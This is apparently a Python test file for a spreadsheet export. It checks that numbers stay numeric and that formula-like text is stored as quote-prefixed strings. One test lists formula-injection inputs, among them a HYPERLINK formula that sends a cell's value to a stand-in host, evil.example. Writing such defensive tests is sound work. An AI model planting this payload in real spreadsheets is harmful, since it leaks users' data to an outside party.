"""Spreadsheet exports: XLSX cells keep numbers as numbers and never run text as a formula (issue #7 item 13)."""

from agents.reporting.export import xlsx_bytes
from tests.xlsx import read_xlsx


def test_an_xlsx_export_holds_the_header_and_rows_with_numbers_as_numbers():
    data = xlsx_bytes(
        ["day", "point", "collected_vnd", "net_vnd"],
        [["2026-12-03", "Điểm Bờ Hồ", 20_000, -3_000], ["2026-12-04", "Bưu điện Hà Đông", 0, None]],
        sheet="settlement",
    )
    assert data.startswith(b"PK")  # a zip, as every .xlsx is
    sheet = read_xlsx(data)
    assert sheet.rows == [
        ["day", "point", "collected_vnd", "net_vnd"],
        ["2026-12-03", "Điểm Bờ Hồ", 20_000, -3_000],
        ["2026-12-04", "Bưu điện Hà Đông", 0],
    ]


def test_text_that_looks_like_a_formula_is_a_quote_prefixed_string_never_a_formula():
    hostile = ['=HYPERLINK("http://evil.example/?leak="&B2,"Bấm")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    sheet = read_xlsx(xlsx_bytes(["name", "n"], [[text, -1] for text in hostile] + [["a=b", 1]]))
    assert sheet.formulas == []
    assert [row[0] for row in sheet.rows[1:]] == [*hostile, "a=b"]  # the text itself, unchanged
    assert sheet.quote_prefixed == {(r, 0) for r in range(1, len(hostile) + 1)}  # shown and kept as text
    assert [row[1] for row in sheet.rows[1:]] == [-1] * len(hostile) + [1]  # negative numbers stay numbers
